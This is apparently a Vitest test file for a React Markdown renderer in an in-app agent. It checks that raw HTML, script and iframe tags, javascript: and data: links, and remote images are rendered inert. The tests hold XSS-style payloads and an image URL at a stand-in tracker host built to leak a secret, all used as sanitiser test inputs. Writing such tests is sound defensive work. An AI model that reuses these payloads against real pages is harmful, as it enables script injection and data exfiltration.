import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from '@/features/in-app-agent/components/Markdown';

function render(text: string): string {
  return renderToStaticMarkup(createElement(Markdown, { text }));
}

describe('Markdown', () => {
  it('shows raw HTML as text, never as elements', () => {
    const html = render(
      'Hi <img src=x onerror="alert(1)"> and <script>alert(2)</script>\n\n<iframe src="https://evil.example"></iframe>',
    );
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<iframe/i);
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;');
  });

  it('renders javascript: and data: links as inert text', () => {
    const html = render('[click](javascript:alert(1)) [data](data:text/html,hi) [tab](java%09script:alert(1))');
    expect(html).not.toMatch(/href="(javascript|data|java)/i);
    expect(html).toContain('data-inert-link="true"');
    expect(html).toContain('click');
  });

  it('opens external links safely and keeps internal ones in the app', () => {
    const html = render('[ext](https://example.com) [int](/projects/p/issues/1) [mail](mailto:a@example.com)');
    expect(html).toMatch(/<a href="https:\/\/example.com\/" [^>]*target="_blank" rel="noopener noreferrer"/);
    expect(html).toContain('href="/projects/p/issues/1"');
    expect(html).not.toMatch(/href="\/projects\/p\/issues\/1"[^>]*target=/);
    expect(html).toContain('href="mailto:a@example.com"');
  });

  it('never loads images: they become links the user may open', () => {
    const html = render('![chart](https://tracker.example/leak?secret=1)');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('[Image: chart]');
  });

  it('renders GFM and code blocks with a copy button', () => {
    const html = render('| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x = 1;\n```');
    expect(html).toContain('<table');
    expect(html).toContain('data-testid="code-copy"');
    expect(html).toContain('const x = 1;');
  });
});
